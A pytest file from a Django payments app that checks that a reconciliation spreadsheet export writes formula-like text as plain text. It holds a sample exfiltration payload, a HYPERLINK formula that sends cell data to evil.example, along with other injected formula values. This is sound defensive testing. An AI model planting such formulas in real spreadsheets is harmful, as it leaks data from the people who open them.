"""Formula injection in the reconciliation workbook (issue 17, point 9): an agency name, a receipt
number or a refund reason that looks like a formula is written as text; amounts stay numbers."""
import io
import zipfile

from django.utils import timezone
from openpyxl import load_workbook

from motcua.payments import services
from motcua.payments.models import Method

from .test_refunds import paid_online

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'


def test_the_reconciliation_workbook_writes_formula_like_texts_as_text(client, waiting, world, receive):
    world["land"].name = EVIL
    world["land"].save(update_fields=["name"])
    payment = paid_online(waiting)
    services.record_counter_payment(world["counter"], receive(), 30_000, Method.CASH, "+1+2")
    assert services.refund_payment(world["counter"], payment, 20_000, "@SUM(1,2)").status == "succeeded"
    client.force_login(world["leader"])
    data = client.get(f"/thanh-toan/doi-soat/?day={timezone.localdate().isoformat()}&format=xlsx").content
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        xml = "".join(archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/"))
    assert "<f>" not in xml and "<f " not in xml  # no formula anywhere
    book = load_workbook(io.BytesIO(data))
    cells = {c.value: c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value is not None}
    for text in (EVIL, "+1+2", "@SUM(1,2)"):
        assert cells[text].data_type == "s" and cells[text].quotePrefix
    payments = book.worksheets[0]
    assert sorted(payments.cell(r, 6).value for r in (2, 3)) == [30_000, 120_000]  # numbers stay numbers
    assert payments.cell(4, 6).value == 150_000
